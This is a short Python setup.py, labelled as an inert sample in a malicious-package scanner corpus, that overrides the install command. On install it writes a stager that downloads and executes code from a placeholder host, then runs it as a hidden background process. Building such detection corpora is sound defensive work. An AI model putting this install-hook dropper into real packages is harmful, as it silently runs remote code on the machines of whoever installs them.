# pkgguard corpus 008 (install-hook), modelled on [checkmarx-2024]; inert, never run.
import os
import subprocess
import tempfile
from setuptools import setup
from setuptools.command.install import install

STAGE = "import urllib.request as u;exec(u.urlopen('https://cdn.example/s').read())"


class Install(install):
    def run(self):
        path = os.path.join(tempfile.gettempdir(), "svc.py")
        with open(path, "w") as f:
            f.write(STAGE)
        subprocess.Popen(["pythonw", path], creationflags=0x08000000)
        install.run(self)


setup(name="pkg", version="2.0", cmdclass={"install": Install})
